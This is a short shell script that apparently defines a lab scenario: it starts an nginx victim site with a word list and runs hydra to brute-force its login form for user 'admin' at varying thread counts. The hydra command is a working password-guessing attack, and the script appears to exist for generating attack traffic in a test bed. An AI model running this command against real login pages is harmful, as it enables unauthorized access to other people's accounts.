# SPDX-License-Identifier: MIT
# label: bruteforce-web
# source: lab-hydra
# needs: hydra nginx
# seconds: 60
# Passwords for a form by hydra.
. $lab/victims.sh

servers() {
	victim_site d 80
	words_up "$(pick 80 200)"
}

scenario() {
	cd "$work" || return
	_tasks=$(choose 1 2 8)
	setting options "-t $_tasks"
	attack u d tcp 80 -- timeout 50 hydra -I -t "$_tasks" -l admin \
		-P "$work/words" "$(addr d)" \
		http-post-form '/form/login:user=^USER^&pass=^PASS^:F=failed'
}
